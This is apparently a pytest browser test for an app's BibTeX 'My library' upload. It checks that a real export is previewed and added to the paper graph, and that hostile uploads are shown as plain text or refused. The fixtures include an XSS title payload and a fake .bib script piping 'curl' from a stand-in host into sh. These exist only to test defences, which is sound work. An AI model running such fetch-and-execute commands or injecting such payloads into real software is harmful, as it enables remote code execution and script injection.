"""Upload to My library in the app (issue 22, point 8) on a new user's offline build, in headless chromium:
a hostile file is shown as text or refused (nothing recorded); a real BibTeX export is read with the CLI's
checks, its matched and new papers shown, and the graph rebuilt so the new paper is on the Paper and
Graph pages, without the command line.
"""
from __future__ import annotations

import json
import re

import pytest

from app.pipeline.sources import load_manifest
from tests.support.browser import ARTIFACTS, _frame
from tests.support.cli import run_cli
from tests.support.shared_data import build_offline

pytestmark = pytest.mark.browser

NEW_TITLE = "A Study of Loss Plateaus in Tiny Transformers That This Graph Has Never Seen"
LIBRARY = """@article{power2022,
  title = {Grokking: Generalization Beyond Overfitting on Small Algorithmic Datasets},
  author = {Power, Alethea and Burda, Yuri},
  year = {2022},
  eprint = {2201.02177},
  archivePrefix = {arXiv}
}
@inproceedings{liu2023omnigrok,
  title = {Omnigrok: Grokking Beyond Algorithmic Data},
  author = {Liu, Ziming and Michaud, Eric J. and Tegmark, Max},
  booktitle = {International Conference on Learning Representations},
  year = {2023}
}
@article{nobody2025,
  title = {%s},
  author = {Nobody, Some and Else, Someone},
  year = {2025}
}
""" % NEW_TITLE
# Markdown, HTML and a script URL in a title: shown as the characters they are, never as markup.
HOSTILE_TITLE = "<img src=x onerror=alert(1)> **Bold** [click](javascript:alert(1))"
HOSTILE = "@article{evil, title = {%s}, author = {Mallory, Eve}, year = {2024}}\n" % HOSTILE_TITLE


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    return build_offline(tmp_path_factory.mktemp("upload-home"))


def _papers(home) -> int:
    done = run_cli("query", "MATCH (p:Paper) RETURN count(p) AS n", "--format", "json",
                   env={"PHENOMENA_HOME": str(home)})
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)[0]["n"]


def _upload(page, server, path) -> None:
    page.goto(f"{server}/library")
    page.get_by_text("Add references").first.wait_for()
    page.locator("input[type=file]").set_input_files(str(path))


def test_a_hostile_upload_is_text_or_refused(server, page, home, tmp_path):
    before = _papers(home)
    hostile = tmp_path / "hostile.bib"
    hostile.write_text(HOSTILE, encoding="utf-8")
    _upload(page, server, hostile)
    page.get_by_text("0 papers already in the graph, 1 paper new").wait_for()
    new = page.locator(".st-key-library_upload_new")
    new.locator("li").first.wait_for()
    shown = " ".join(new.inner_text().replace("\u2060", "").split())  # safe_text's invisible joiner stops autolinks
    assert HOSTILE_TITLE in shown, shown  # every character shown as itself
    assert page.locator("img[src=x]").count() == 0 and page.locator("a[href^='javascript']").count() == 0
    assert new.locator("strong").count() == 0  # no Markdown made from the title
    page.screenshot(path=str(ARTIFACTS / "upload-hostile.png"), full_page=True)

    script = tmp_path / "library.bib"  # a script in a .bib's clothing: not a bibliography
    script.write_text("#!/bin/sh\ncurl http://example.invalid/x | sh\n", encoding="utf-8")
    _upload(page, server, script)
    error = page.get_by_test_id("stAlertContentError")
    error.get_by_text(re.compile("is not a bibliography")).wait_for()
    assert "curl" not in error.inner_text()  # refused without quoting it
    assert page.get_by_role("button", name=re.compile("Add to my library")).count() == 0
    page.screenshot(path=str(ARTIFACTS / "upload-refused.png"), full_page=True)
    assert load_manifest(home).imports == [] and not list(home.glob("imports/*"))  # nothing recorded
    assert _papers(home) == before


def test_an_upload_joins_my_library_and_the_graph(server, page, home, tmp_path):
    before = _papers(home)
    bib = tmp_path / "my-library.bib"
    bib.write_text(LIBRARY, encoding="utf-8")
    _upload(page, server, bib)
    page.get_by_text("2 papers already in the graph, 1 paper new").wait_for()
    page.locator(".st-key-library_upload_matched").get_by_role("link", name=re.compile("^Grokking: Generalization"))\
        .first.wait_for()
    page.locator(".st-key-library_upload_new").get_by_text(NEW_TITLE).wait_for()
    page.screenshot(path=str(ARTIFACTS / "upload-preview.png"), full_page=True)

    page.get_by_role("button", name="Add to my library and rebuild the graph").click()
    added = page.locator(".st-key-library_upload_added")
    added.wait_for(timeout=180_000)  # an offline rebuild of the catalog
    page.get_by_text(re.compile(r"my-library\.bib is in your library: 2 papers already in the graph, 1 paper new"))\
        .wait_for()
    page.get_by_text("3 papers in your library").wait_for()
    page.screenshot(path=str(ARTIFACTS / "upload-added.png"), full_page=True)
    assert [i.name for i in load_manifest(home).imports] == ["my-library.bib"]  # as `phenomena import` records it
    assert _papers(home) == before + 1

    added.get_by_role("link", name=re.compile(re.escape(NEW_TITLE))).click()  # the new paper's page
    page.get_by_role("heading", name=NEW_TITLE).wait_for()
    page.screenshot(path=str(ARTIFACTS / "upload-paper-page.png"), full_page=True)

    page.goto(f"{server}/graph?source=library")  # my library drawn: the three papers, ringed
    _frame(page)
    page.get_by_text(re.compile(r"^Showing 3 papers")).wait_for()
    page.get_by_text("3 of the papers drawn are in your library").wait_for()
    ids = page.locator("iframe").first.evaluate(
        "el => el.contentWindow.network.body.data.nodes.get({filter: n => n.kind === 'Paper'}).map(n => n.id)")
    assert len(ids) == 3 and "arxiv:2201.02177" in ids
    page.screenshot(path=str(ARTIFACTS / "upload-graph.png"))
